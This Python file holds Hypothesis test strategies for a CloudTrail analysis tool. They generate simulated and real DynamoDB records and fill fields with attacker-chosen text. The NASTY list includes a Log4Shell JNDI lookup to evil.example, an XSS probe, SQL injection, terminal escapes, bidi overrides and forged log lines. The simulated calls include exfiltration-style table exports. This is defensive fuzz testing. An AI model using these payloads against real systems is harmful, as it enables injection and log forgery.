"""Hypothesis strategies for good CloudTrail: records in the simulator's shapes, the real public
DynamoDB records, hostile text in every string a principal controls, and the file forms a
trail writes.

"Good" here means what a user expects trailhound to read and judge: a record with hostile text
in its user agent or table name is still a good record (an attacker chose that text, AWS logged
it), and must be normalized and judged like any other. The broken inputs live in `hostile.py`.
All records are synthetic (built by the simulator's own record builders) or real (read from
../shared/data at test time, never copied here).
"""

from __future__ import annotations

import gzip
import json
import random
from collections.abc import Callable, Iterable
from datetime import UTC, datetime
from functools import cache
from pathlib import Path
from typing import Any

from hypothesis import strategies as st

from trailhound.simulate import dynamodb_calls as ddb
from trailhound.simulate.records import Recorder
from trailhound.simulate.world import PRINCIPALS, TABLES, Principal, Table

Record = dict[str, Any]

SHARED_DATA = Path(__file__).resolve().parents[3] / "shared" / "data"
REAL = SHARED_DATA / "dynamodb-real"
T0 = int(datetime(2026, 3, 2, 9, 0, tzinfo=UTC).timestamp())

# Text an attacker can put in a CloudTrail string: terminal escapes (retitle, clear, cursor
# moves), bidi overrides and isolates (Trojan Source), line breaks that forge a log line,
# Slack mentions and mrkdwn, rich markup, HTML, and text long enough to be cut.
NASTY = (
    "\x1b]0;owned\x07",
    "\x1b[2J\x1b[H",
    "\x1b[31mred\x1b[0m",
    "\x9b6n",
    "\x07\x08\x7f\x00",
    "\u202eevil.exe\u202c",
    "\u2066\u2069\u2067\u2068",
    "\u202a\u202b\u202d",
    "\u2028\u2029",
    "\r\ntrailhound: FORGED all clear",
    "\rtrailhound: FORGED",
    "<!channel> <!here> <@U024BE7LH> <#C024BE7LR>",
    "*bold* _it_ ~strike~ `code` <https://evil.example|click>",
    "[bold red]markup[/bold red] [link=https://evil.example]x[/link]",
    "<script>alert(1)</script>&amp;",
    "${jndi:ldap://evil.example/a}",
    "'; DROP TABLE alerts; --",
    "%s%n%x {0} {{}}",
    "\ufeff\u200b\u200d",
    "é ü 漢字 😀 \U0010fffd",
    "x" * 3000,
)
# The characters nobody may see raw: C0 and C1 controls, DEL, line and paragraph separators,
# bidi embeddings, overrides and isolates. The same set `alerts.render.printable` escapes.
UNSAFE = frozenset(
    [chr(c) for c in range(0x20)]
    + [chr(c) for c in range(0x7F, 0xA0)]
    + ["\u2028", "\u2029"]
    + [chr(c) for c in range(0x202A, 0x202F)]
    + [chr(c) for c in range(0x2066, 0x206A)]
)

hostile_text = st.lists(
    st.sampled_from(NASTY) | st.text(alphabet=sorted(UNSAFE), min_size=1, max_size=4)
    | st.text(max_size=8),
    min_size=1,
    max_size=4,
).map("".join)

# What a principal writes into a record (and so can fill with hostile text), by path.
ATTACKER_STRINGS: tuple[tuple[str, ...], ...] = (
    ("userAgent",),
    ("sourceIPAddress",),
    ("userIdentity", "userName"),
    ("userIdentity", "principalId"),
    ("userIdentity", "arn"),
    ("userIdentity", "sessionContext", "sessionIssuer", "userName"),
    ("requestParameters", "tableName"),
    ("requestParameters", "key"),
    ("requestParameters", "s3Bucket"),
    ("requestParameters", "policy"),
    ("errorMessage",),
    ("eventID",),
)


def _accounts_tables(p: Principal) -> list[Table]:
    own = [t for t in TABLES if t.account == p.account]
    return own or list(TABLES)


# The calls an attack on DynamoDB is made of (and the rules of the pack look for), each built
# by the simulator: (recorder, principal, epoch seconds, table) -> record.
Call = Callable[[Recorder, Principal, int, Table], Record]
CALLS: dict[str, Call] = {
    "DeleteTable": ddb.delete_table,
    "CreateTable": ddb.create_table,
    "UpdateTable": lambda r, p, ts, t: ddb.update_table(r, p, ts, t, ddb.throughput(5, 5)),
    "DisableDeletionProtection": lambda r, p, ts, t: ddb.update_table(
        r, p, ts, t, {"deletionProtectionEnabled": False}
    ),
    "Scan": ddb.scan,
    "DeleteItem": ddb.delete_item,
    "UpdateItem": ddb.update_item,
    "PutItem": ddb.put_item,
    "GetItem": ddb.get_item,
    "ListBackups": ddb.list_backups,
    "CreateBackup": ddb.create_backup,
    "DisablePITR": lambda r, p, ts, t: ddb.update_pitr(r, p, ts, t, False),
    "ExportToS3": lambda r, p, ts, t: ddb.export_table(r, p, ts, t, "exfil-bkt", "981234567890"),
    "PutResourcePolicy": lambda r, p, ts, t: ddb.put_resource_policy(
        r, p, ts, t, '{"Statement":[{"Effect":"Allow","Principal":"*","Action":"dynamodb:*"}]}'
    ),
    "EnableKinesis": lambda r, p, ts, t: ddb.enable_kinesis(
        r, p, ts, t, "arn:aws:kinesis:us-east-1:981234567890:stream/x"
    ),
    "UpdateTimeToLive": ddb.update_ttl,
    "AccessDenied": lambda r, p, ts, t: ddb.scan(
        r, p, ts, t, error=ddb.access_denied(p, "Scan", t)
    ),
}


@st.composite
def burst(draw: st.DrawFn, recorder: Recorder) -> list[Record]:
    """One principal calling one API several times a few seconds to minutes apart: the shape
    that makes threshold rules fire (six table deletions in ten minutes) and new-terms rules
    see a first time. Sources and user agents sometimes foreign, so country rules see it."""
    principal = draw(st.sampled_from(PRINCIPALS))
    call = CALLS[draw(st.sampled_from(sorted(CALLS)))]
    tables = _accounts_tables(principal)
    start = T0 + draw(st.integers(0, 3 * 3600))
    gap = draw(st.integers(1, 240))
    ip = draw(st.none() | st.sampled_from(["185.220.101.4", "175.45.176.1", "81.2.69.160"]))
    records = []
    for i in range(draw(st.integers(1, 8))):
        table = draw(st.sampled_from(tables))
        record = call(recorder, principal, start + i * gap, table)
        if ip is not None and not principal.invoked_by:
            record = {**record, "sourceIPAddress": ip}
        records.append(record)
    return records


@st.composite
def simulated_records(draw: st.DrawFn, max_bursts: int = 6) -> list[Record]:
    """Bursts of calls in the simulator's shapes, each record with its own eventID (one
    recorder per example draws them from one seeded generator)."""
    recorder = Recorder(random.Random(draw(st.integers(0, 2**32))), 0)
    bursts = draw(st.lists(burst(recorder), min_size=1, max_size=max_bursts))
    return [record for b in bursts for record in b]


@cache
def real_records() -> tuple[Record, ...]:
    """The real public DynamoDB records, one per eventID (the file holds a few twice)."""
    seen: dict[str, Record] = {}
    for line in (REAL / "dynamodb_records.ndjson").read_text().splitlines():
        record = json.loads(line)
        seen.setdefault(record["eventID"], record)
    return tuple(seen.values())


def with_text(record: Record, path: tuple[str, ...], text: str) -> Record:
    """A copy of `record` with `text` at `path` (created when missing)."""
    out = json.loads(json.dumps(record))
    node = out
    for key in path[:-1]:
        child = node.get(key)
        if not isinstance(child, dict):
            child = node[key] = {}
        node = child
    node[path[-1]] = text
    return out


@st.composite
def hostile_strings(draw: st.DrawFn, record: Record) -> Record:
    """`record` with hostile text in some of the strings its principal controls. Still a
    good record: CloudTrail logs whatever a caller sent."""
    paths = draw(st.lists(st.sampled_from(ATTACKER_STRINGS), min_size=1, max_size=4, unique=True))
    for path in paths:
        text = draw(hostile_text)
        if path == ("eventID",):
            text = f"{record['eventID']}{text}"  # stays unique
        record = with_text(record, path, text)
    return record


@st.composite
def good_records(draw: st.DrawFn, max_bursts: int = 6) -> list[Record]:
    """Good records: simulated bursts, some real records, some of either with hostile text.
    eventIDs are unique, so every record is a distinct CloudTrail event."""
    records = draw(simulated_records(max_bursts))
    records += draw(st.lists(st.sampled_from(real_records()), max_size=4, unique_by=_event_id))
    marked = draw(st.sets(st.integers(0, len(records) - 1), max_size=3))
    for i in marked:
        records[i] = draw(hostile_strings(records[i]))
    return records


def _event_id(record: Record) -> str:
    return str(record["eventID"])


# -- file forms ---------------------------------------------------------------------------------

def ndjson(records: Iterable[Record]) -> bytes:
    return b"".join(json.dumps(r).encode() + b"\n" for r in records)


def delivery(records: Iterable[Record]) -> bytes:
    """An S3 delivery file: {"Records": [...]}, as CloudTrail writes it."""
    return json.dumps({"Records": list(records)}).encode()


def eventbridge(records: Iterable[Record]) -> bytes:
    """EventBridge "AWS API Call via CloudTrail" events, one a line."""
    return b"".join(
        json.dumps({
            "version": "0", "id": f"eb-{i}", "detail-type": "AWS API Call via CloudTrail",
            "source": "aws.dynamodb", "account": "111122223333", "time": "2026-03-02T09:00:00Z",
            "region": "us-east-1", "resources": [], "detail": r,
        }).encode() + b"\n"
        for i, r in enumerate(records)
    )  # fmt: skip


FORMS: dict[str, Callable[[Iterable[Record]], bytes]] = {
    "ndjson": ndjson,
    "delivery": delivery,
    "eventbridge": eventbridge,
}


@st.composite
def good_files(draw: st.DrawFn, records: list[Record]) -> dict[str, bytes]:
    """`records` cut into files of various forms, some gzipped; names in delivery order."""
    files: dict[str, bytes] = {}
    cuts = sorted(draw(st.sets(st.integers(1, max(1, len(records) - 1)), max_size=4)))
    for n, (a, b) in enumerate(zip([0, *cuts], [*cuts, len(records)], strict=True)):
        if a >= b:
            continue
        form = draw(st.sampled_from(sorted(FORMS)))
        data = FORMS[form](records[a:b])
        suffix = ""
        if draw(st.booleans()):
            data, suffix = gzip.compress(data, mtime=0), ".gz"
        files[f"good-{n:02d}.{form}{suffix}"] = data
    return files
